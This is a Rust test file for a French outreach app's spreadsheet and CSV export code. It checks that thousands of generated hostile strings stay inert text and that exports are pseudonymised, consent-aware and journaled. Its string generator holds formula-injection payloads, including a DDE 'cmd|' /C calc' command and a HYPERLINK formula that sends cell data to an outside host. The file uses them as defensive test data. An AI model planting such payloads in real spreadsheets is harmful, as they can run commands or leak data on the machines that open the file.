//! Exports read back with real readers: calamine for workbooks (and the sheet's XML
//! itself, unzipped), the `csv` crate for CSV. 10,000 hostile strings come back byte for
//! byte, none as a formula; a store's export is pseudonymised unless asked, journaled,
//! and holds real dates and numbers.

use std::io::Read;
use std::path::Path;

use calamine::{Data, Reader, Xlsx, open_workbook};
use filrouge_model::dashboard::{Period, PeriodKind};
use filrouge_model::ipc::{Export, ExportFormat, ExportFunderTable};
use filrouge_model::{
    Channel, Consent, ConsentMethod, ConsentScope, Contact, Day, PersonDraft, RencontreDraft,
};

use super::{Column, Parameters, Table, Value, csv, xlsx};
use crate::Device;
use crate::store::tests::{NOW, test_env};

/// Strings a spreadsheet would run, or that break a naive writer or reader.
fn hostile(n: usize) -> Vec<String> {
    const STARTS: [&str; 9] = ["=", "+", "-", "@", "\t", "\r", "\n", "", " ="];
    const BODIES: [&str; 16] = [
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://exemple.invalid/?x=\"&A1,\"Cliquez\")",
        "1+1",
        "SUM(A1:A9)",
        "a;b;c",
        "guillemets \"dedans\"",
        "ligne\r\nsuivante",
        "Éloïse à Châtellerault",
        "_x0041_ littéral",
        "contrôle \u{1}\u{1f} fin",
        "emoji 😀 et 中文",
        "'déjà une apostrophe",
        "\\antislash\\",
        "   espaces   ",
        "@SUM(1)",
        "-2+3",
    ];
    (0..n)
        .map(|i| {
            let start = STARTS[i % STARTS.len()];
            let body = BODIES[(i / STARTS.len()) % BODIES.len()];
            format!("{start}{body} {i}")
        })
        .collect()
}

fn table(strings: &[String]) -> Table {
    Table {
        name: "Rencontres",
        columns: vec![
            Column {
                title: "=Titre piégé".into(),
                definition: "un titre qui commence par =",
            },
            Column {
                title: "Nombre".into(),
                definition: "un nombre",
            },
        ],
        rows: strings
            .iter()
            .enumerate()
            .map(|(i, s)| vec![Value::Text(s.clone()), Value::Number(-(i as i64))])
            .collect(),
    }
}

fn params() -> Parameters {
    Parameters {
        what: "test".into(),
        period: Period::containing(PeriodKind::Month, Day::from_epoch_ms(NOW)),
        at: NOW,
        by: Some("=Karim".into()),
        personal: false,
    }
}

/// The XML of the workbook's sheet `n` (1-based).
fn sheet_xml(path: &Path, n: usize) -> String {
    let file = std::fs::File::open(path).unwrap();
    let mut zip = zip::ZipArchive::new(file).unwrap();
    let mut xml = String::new();
    zip.by_name(&format!("xl/worksheets/sheet{n}.xml"))
        .unwrap()
        .read_to_string(&mut xml)
        .unwrap();
    xml
}

#[test]
fn ten_thousand_hostile_strings_come_back_from_a_workbook_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hostile.xlsx");
    let strings = hostile(10_000);
    xlsx::write(&path, &[table(&strings)], &params()).unwrap();
    // No formula anywhere in the sheets: every cell is a value.
    for n in 1..=3 {
        let xml = sheet_xml(&path, n);
        assert!(
            !xml.contains("<f>") && !xml.contains("<f "),
            "sheet {n} holds a formula"
        );
    }
    let xml = sheet_xml(&path, 1);
    assert!(xml.contains("<pane "), "the header row is frozen");
    assert!(xml.contains("<autoFilter "), "the header has a filter");
    let mut book: Xlsx<_> = open_workbook(&path).unwrap();
    let range = book.worksheet_range("Rencontres").unwrap();
    let rows: Vec<_> = range.rows().collect();
    assert_eq!(rows.len(), strings.len() + 1);
    assert_eq!(rows[0][0], Data::String("=Titre piégé".into()));
    for (i, (row, s)) in rows[1..].iter().zip(&strings).enumerate() {
        assert_eq!(row[0], Data::String(s.clone()), "row {i}");
        assert_eq!(row[1], Data::Float(-(i as f64)), "row {i}: a real number");
    }
    let info = book.worksheet_range("Paramètres").unwrap();
    assert!(info.rows().any(|r| r[1] == Data::String("=Karim".into())));
    assert!(book.worksheet_range("Définitions").is_ok());
}

#[test]
fn ten_thousand_hostile_strings_come_back_from_csv_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hostile.csv");
    let strings = hostile(10_000);
    csv::write(&path, &table(&strings)).unwrap();
    let bytes = std::fs::read(&path).unwrap();
    assert!(
        bytes.starts_with("\u{feff}".as_bytes()),
        "a byte-order mark for Excel"
    );
    let mut reader = ::csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(true)
        .from_reader(&bytes[3..]);
    let header = reader.headers().unwrap().clone();
    assert_eq!(&header[0], "'=Titre piégé");
    let records: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), strings.len());
    for (i, (record, s)) in records.iter().zip(&strings).enumerate() {
        let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
        let expected = if formula { format!("'{s}") } else { s.clone() };
        assert_eq!(&record[0], expected, "row {i}");
        // Numbers are numbers: no apostrophe before a real minus sign.
        assert_eq!(&record[1], (-(i as i64)).to_string(), "row {i}");
    }
    // Lines end with CRLF, and a line break inside a field stays inside its quotes.
    let text = String::from_utf8(bytes).unwrap();
    assert!(text.contains("\r\n'=cmd|"));
    assert!(text.contains("\"ligne\r\nsuivante"));
}

fn month() -> Period {
    Period::containing(PeriodKind::Month, Day::from_epoch_ms(NOW))
}

/// A device with one person (with a last name and a *frein*) met twice, one rencontre
/// with a note that looks like a formula.
fn device(dir: &Path) -> Device {
    let d = Device::open(&dir.join("store.sqlite"), test_env(NOW, 1)).unwrap();
    {
        let mut s = d.lock();
        let mut p = PersonDraft::new("Éloïse");
        p.last_name = Some("Martin".into());
        p.freins.insert(filrouge_model::Frein::Mobilite);
        p.contact = Some(Contact {
            phone: Some("06 12 34 56 78".into()),
            handle: Some("@elo93".into()),
        });
        p.consent = Some(Consent {
            date: Day::from_epoch_ms(NOW),
            scopes: [ConsentScope::SuiviEquipe, ConsentScope::Contact].into(),
            method: ConsentMethod::Oral,
            by: None,
            notice: None,
        });
        let id = s.create_person(p).unwrap();
        // A person who withdrew her agreement to be contacted on one device while her
        // phone was typed on another: the merge holds both, the projection keeps none.
        let other = s.create_person(PersonDraft::new("Inès")).unwrap();
        let mut merged = PersonDraft::new("Inès");
        merged.contact = Some(Contact {
            phone: Some("07 00 00 00 00".into()),
            handle: None,
        });
        merged.consent = Some(Consent {
            date: Day::from_epoch_ms(NOW),
            scopes: [ConsentScope::SuiviEquipe].into(),
            method: ConsentMethod::Oral,
            by: None,
            notice: None,
        });
        crate::store::projections::project(
            &s.conn,
            filrouge_model::RecordKind::Personne,
            other.as_str(),
            Some(&crate::store::projections::Row::Personne(merged)),
            crate::store::projections::Meta {
                deleted: false,
                updated_at: NOW,
            },
            true,
        )
        .unwrap();
        s.create_rencontre(RencontreDraft {
            channel: Channel::Maraude,
            place: "gare".into(),
            occurred_at: Some(NOW - 1_000_000),
            headcount: 1,
            persons: [other].into(),
            ..Default::default()
        })
        .unwrap();
        for note in ["=HYPERLINK(\"x\")", "Rappel demain"] {
            s.create_rencontre(RencontreDraft {
                channel: Channel::Maraude,
                place: "+33 gare".into(),
                occurred_at: Some(NOW - 3_600_000),
                headcount: 2,
                note: note.into(),
                persons: [id.clone()].into(),
                ..Default::default()
            })
            .unwrap();
        }
    }
    d
}

#[test]
fn a_stores_export_is_pseudonymised_unless_asked_and_journaled() {
    let dir = tempfile::tempdir().unwrap();
    let d = device(dir.path());
    let out = dir.path().join("exports");
    let plain = d
        .export(
            Export {
                period: month(),
                format: ExportFormat::Xlsx,
                personal: false,
            },
            &out,
        )
        .unwrap();
    assert_eq!(plain.rows, 5, "three rencontres and two persons");
    assert!(
        plain
            .file
            .ends_with(&format!("filrouge-rencontres-{}.xlsx", month().slug()))
    );
    let mut book: Xlsx<_> = open_workbook(&plain.file).unwrap();
    let rencontres = book.worksheet_range("Rencontres").unwrap();
    let header: Vec<String> = rencontres
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert!(
        !header.iter().any(|h| h == "Note" || h == "Pseudonyme"),
        "{header:?}"
    );
    let first = rencontres.rows().nth(1).unwrap();
    assert!(
        matches!(first[1], Data::DateTime(_)),
        "a real date: {:?}",
        first[1]
    );
    assert_eq!(first[3], Data::String("+33 gare".into()));
    assert_eq!(first[7], Data::Float(3.0));
    let persons = book.worksheet_range("Personnes").unwrap();
    let all: Vec<String> = persons
        .rows()
        .flat_map(|r| r.iter().map(|c| c.to_string()))
        .collect();
    assert!(all.contains(&"Éloïse".to_owned()));
    assert!(
        !all.iter()
            .any(|c| c.contains("Martin") || c.contains("Mobilité") || c.contains("06 12"))
    );

    // Asked for, names, notes and needs come; a second export never overwrites the first.
    let personal = d
        .export(
            Export {
                period: month(),
                format: ExportFormat::Xlsx,
                personal: true,
            },
            &out,
        )
        .unwrap();
    assert_ne!(personal.file, plain.file);
    let mut book: Xlsx<_> = open_workbook(&personal.file).unwrap();
    let all: Vec<String> = ["Rencontres", "Personnes"]
        .iter()
        .flat_map(|s| {
            let r = book.worksheet_range(s).unwrap();
            r.rows()
                .flat_map(|r| r.iter().map(|c| c.to_string()))
                .collect::<Vec<_>>()
        })
        .collect();
    assert!(all.contains(&"Martin".to_owned()));
    assert!(all.contains(&"=HYPERLINK(\"x\")".to_owned()));
    assert!(all.contains(&"06 12 34 56 78".to_owned()));
    assert!(all.contains(&"@elo93".to_owned()));
    assert!(
        !all.iter().any(|c| c.contains("07 00")),
        "no contact means without the person's agreement"
    );

    let csv = d
        .export(
            Export {
                period: month(),
                format: ExportFormat::Csv,
                personal: false,
            },
            &out,
        )
        .unwrap();
    assert_eq!(csv.rows, 3, "CSV holds the rencontres");
    let text = std::fs::read_to_string(&csv.file).unwrap();
    assert!(text.contains(";'+33 gare;"), "{text}");

    let funder = d
        .export_funder_table(ExportFunderTable { period: month() }, &out)
        .unwrap();
    let mut book: Xlsx<_> = open_workbook(&funder.file).unwrap();
    let sheet = book.worksheet_range("Indicateurs").unwrap();
    let reperes = sheet.rows().nth(1).unwrap();
    assert_eq!(reperes[0], Data::String("Personnes repérées".into()));
    assert_eq!(reperes[1], Data::String("< 5".into()), "one person: hidden");

    let journal = d.lock().export_journal().unwrap();
    assert_eq!(journal.len(), 4);
    assert_eq!(
        journal
            .iter()
            .map(|j| (j.format.as_str(), j.rows, j.personal))
            .collect::<Vec<_>>(),
        [
            ("xlsx", 16, false),
            ("csv", 3, false),
            ("xlsx", 5, true),
            ("xlsx", 5, false)
        ]
    );
    // No `.part` file is left behind.
    let names: Vec<_> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(names.iter().all(|n| !n.ends_with(".part")), "{names:?}");
}

#[test]
fn a_failed_export_leaves_no_file_and_no_journal_line() {
    let dir = tempfile::tempdir().unwrap();
    let d = device(dir.path());
    // The target is a directory that cannot be created (a file is in the way).
    let blocked = dir.path().join("blocked");
    std::fs::write(&blocked, "").unwrap();
    let err = d.export(
        Export {
            period: month(),
            format: ExportFormat::Csv,
            personal: false,
        },
        &blocked,
    );
    assert!(err.is_err());
    assert!(d.lock().export_journal().unwrap().is_empty());
}
